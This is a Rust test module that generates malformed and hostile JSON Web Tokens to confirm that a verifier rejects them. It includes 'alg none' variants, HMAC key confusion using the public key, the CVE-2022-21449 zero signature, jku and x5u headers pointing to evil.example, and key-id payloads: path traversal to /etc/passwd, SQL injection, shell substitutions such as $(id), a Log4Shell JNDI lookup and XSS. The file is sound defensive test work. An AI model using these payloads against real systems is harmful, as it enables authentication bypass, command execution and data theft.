//! J1 to J4: algorithm, header members, key id, type.

use super::*;

pub(in crate::domain::jwt::tests) fn j1(world: &World) -> Vec<Bad> {
    let mut bad = Vec::new();
    let own = world.ring.active_signing().algorithm().as_str();
    let mut names = vec![
        String::new(),
        " ES256".to_owned(),
        "ES256 ".to_owned(),
        own.to_lowercase(),
    ];
    // none in every mixture of cases
    for mask in 0..16_u8 {
        let name = "none"
            .char_indices()
            .map(|(i, c)| if mask >> i & 1 == 1 { c.to_ascii_uppercase() } else { c });
        names.push(name.collect());
    }
    let others = "HS256 HS384 HS512 RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES256K ES384 ES512 EdDSA Ed25519 Ed448 \
                  ECDH-ES dir A128KW es256 Es256 eddsa EDDSA";
    names.extend(others.split_whitespace().map(str::to_owned));
    for name in names.iter().filter(|name| *name != own) {
        let header = header_with(world, "alg", json!(name));
        bad.push((
            format!("alg {name:?}, signed"),
            world.sign(&header, &good_claims()),
            Refusal::Algorithm,
        ));
        let unsigned = world.sign(&header, &good_claims());
        let unsigned = format!("{}.", unsigned.rsplit_once('.').unwrap().0);
        bad.push((format!("alg {name:?}, no signature"), unsigned, Refusal::Algorithm));
    }
    // The classic: HMAC with the public key, in every form an attacker can get it, as the secret.
    let jwks = world.ring.jwks();
    let kid = world.ring.active_signing().kid();
    let jwk = jwks["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|key| key["kid"] == kid)
        .unwrap();
    let x = BASE64URL_NOPAD.decode(jwk["x"].as_str().unwrap().as_bytes()).unwrap();
    let y = BASE64URL_NOPAD
        .decode(jwk["y"].as_str().unwrap_or_default().as_bytes())
        .unwrap();
    let point = [&[4][..], &x, &y].concat();
    for (form, secret) in [
        ("point", point),
        ("x", x),
        ("jwk", jwk.to_string().into_bytes()),
        ("kid", kid.into()),
    ] {
        for (alg, refusal) in [("HS256", Refusal::Algorithm), (own, Refusal::Signature)] {
            let header = header_with(world, "alg", json!(alg));
            let signed = world.sign(&header, &good_claims());
            let message = signed.rsplit_once('.').unwrap().0;
            let key = EncodingKey::from_secret(&secret);
            let mac = jsonwebtoken::crypto::sign(message.as_bytes(), &key, Library::HS256).unwrap();
            bad.push((
                format!("HMAC with the public {form} as {alg}"),
                format!("{message}.{mac}"),
                refusal,
            ));
        }
    }
    for value in [
        json!(null),
        json!(256),
        json!(["ES256"]),
        json!({ "ES256": true }),
        json!(true),
    ] {
        let what = format!("alg of another type: {value}");
        bad.push((
            what,
            world.sign(&header_with(world, "alg", value), &good_claims()),
            Refusal::Algorithm,
        ));
    }
    let mut header = world.header();
    header.as_object_mut().unwrap().remove("alg");
    bad.push((
        "no alg".to_owned(),
        world.sign(&header, &good_claims()),
        Refusal::Algorithm,
    ));
    bad.extend(bad_signatures(world));
    bad
}

/// Signatures that are none, or not of this key over these bytes.
fn bad_signatures(world: &World) -> Vec<Bad> {
    let mut bad = Vec::new();
    let good = world.good();
    let (message, signature) = good.rsplit_once('.').unwrap();
    for (what, bytes) in [
        ("empty signature", vec![]),
        ("zeros (CVE-2022-21449)", vec![0; 64]),
        ("ones", vec![255; 64]),
        (
            "63 bytes",
            BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap()[..63].to_vec(),
        ),
        (
            "65 bytes",
            [&BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap()[..], &[0]].concat(),
        ),
        ("DER", [&[0x30, 0x44, 2, 32][..], &[1; 32], &[2, 32], &[1; 32]].concat()),
    ] {
        bad.push((
            what.to_owned(),
            format!("{message}.{}", BASE64URL_NOPAD.encode(&bytes)),
            Refusal::Signature,
        ));
    }
    let other = world.good();
    let mixed = format!("{message}.{}", other.rsplit_once('.').unwrap().1);
    bad.push(("signature of another token".to_owned(), mixed, Refusal::Signature));
    let stranger = super::super::world(world.ring.active_signing().algorithm());
    let message = world.sign(&world.header(), &good_claims());
    let foreign = stranger.sign_message(message.rsplit_once('.').unwrap().0);
    bad.push((
        "signed by a stranger under our kid".to_owned(),
        foreign,
        Refusal::Signature,
    ));
    bad
}

pub(in crate::domain::jwt::tests) fn j2(world: &World) -> Vec<Bad> {
    let jwk = world.ring.jwks()["keys"][0].clone();
    let forbidden = [
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
        ("jwk", jwk.clone()),
        ("jwk", json!({})),
        ("jwk", json!(null)),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("https://mayfly.example/.well-known/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ];
    let unknown = [
        ("cty", json!("JWT")),
        ("Crit", json!(["exp"])),
        ("JWK", jwk),
        ("nonce", json!("1")),
        ("iss", json!("https://mayfly.example")),
        ("ALG", json!("none")),
        ("", json!("")),
        ("exp", json!(NOW + 900)),
    ];
    let forbidden = forbidden
        .into_iter()
        .map(|(name, value)| (name, value, Refusal::HeaderForbidden));
    let unknown = unknown
        .into_iter()
        .map(|(name, value)| (name, value, Refusal::HeaderUnknown));
    forbidden
        .chain(unknown)
        .map(|(name, value, refusal)| {
            let what = format!("{name}: {value}");
            (
                what,
                world.sign(&header_with(world, name, value), &good_claims()),
                refusal,
            )
        })
        .collect()
}

pub(in crate::domain::jwt::tests) fn j3(world: &World) -> Vec<Bad> {
    let own = world.ring.active_signing().kid().to_owned();
    let bad_form = [
        "",
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "' OR '1'='1",
        "' UNION SELECT 'AA'--",
        "; sleep 5",
        "$(id)",
        "`id`",
        "| id",
        "%00",
        "\0",
        "kid\r\nX: y",
        "\u{202e}dik",
        "ключ",
        ".*",
        "^.*$",
        "*",
        "key id",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "http://evil.example",
        "a=b",
    ];
    let mut kids: Vec<(Value, Refusal)> = bad_form.iter().map(|kid| (json!(kid), Refusal::KeyId)).collect();
    kids.push((json!(format!("{own} ")), Refusal::KeyId));
    kids.push((json!(format!(" {own}")), Refusal::KeyId));
    kids.push((json!(format!("{own}\0")), Refusal::KeyId));
    kids.push((json!("a".repeat(65)), Refusal::KeyId));
    kids.push((json!("a".repeat(5000)), Refusal::KeyId));
    for value in [json!(null), json!(1), json!(true), json!([own]), json!({ "kid": own })] {
        kids.push((value, Refusal::KeyId));
    }
    let flip = |c: char| {
        if c.is_ascii_lowercase() {
            c.to_ascii_uppercase()
        } else {
            c.to_ascii_lowercase()
        }
    };
    for unknown in [
        own.chars().map(flip).collect(),
        own[1..].to_owned(),
        own[..own.len() - 1].to_owned(),
        format!("{own}A"),
        "edge-1".to_owned(),
        "undefined".to_owned(),
        "null".to_owned(),
        "__proto__".to_owned(),
        "0".to_owned(),
        "a".repeat(64),
        world.removed_kid.clone(),
    ] {
        kids.push((json!(unknown), Refusal::KeyUnknown));
    }
    // Another key's id leads to that key, which has not signed this.
    kids.push((json!(world.next_kid), Refusal::Signature));
    let mut bad: Vec<Bad> = kids
        .into_iter()
        .map(|(kid, refusal)| {
            let what = format!("kid {kid}");
            (
                what,
                world.sign(&header_with(world, "kid", kid), &good_claims()),
                refusal,
            )
        })
        .collect();
    let mut header = world.header();
    header.as_object_mut().unwrap().remove("kid");
    bad.push(("no kid".to_owned(), world.sign(&header, &good_claims()), Refusal::KeyId));
    bad
}

pub(in crate::domain::jwt::tests) fn j4(world: &World) -> Vec<Bad> {
    let typs = [
        json!("JWT"),
        json!("jwt"),
        json!("AT+JWT"),
        json!("At+Jwt"),
        json!("application/at+jwt"),
        json!("at+jwt "),
        json!(" at+jwt"),
        json!("at-jwt"),
        json!("at jwt"),
        json!(""),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!("dpop+jwt"),
        json!("token-introspection+jwt"),
        json!("client-authentication+jwt"),
        json!("id_token"),
        json!("rt+jwt"),
        json!("at+jwt\0"),
        json!(null),
        json!(["at+jwt"]),
        json!({ "at+jwt": 1 }),
        json!(1),
    ];
    let mut bad: Vec<Bad> = typs
        .into_iter()
        .map(|typ| {
            (
                format!("typ {typ}"),
                world.sign(&header_with(world, "typ", typ), &good_claims()),
                Refusal::Typ,
            )
        })
        .collect();
    let mut header = world.header();
    header.as_object_mut().unwrap().remove("typ");
    bad.push(("no typ".to_owned(), world.sign(&header, &good_claims()), Refusal::Typ));
    bad
}
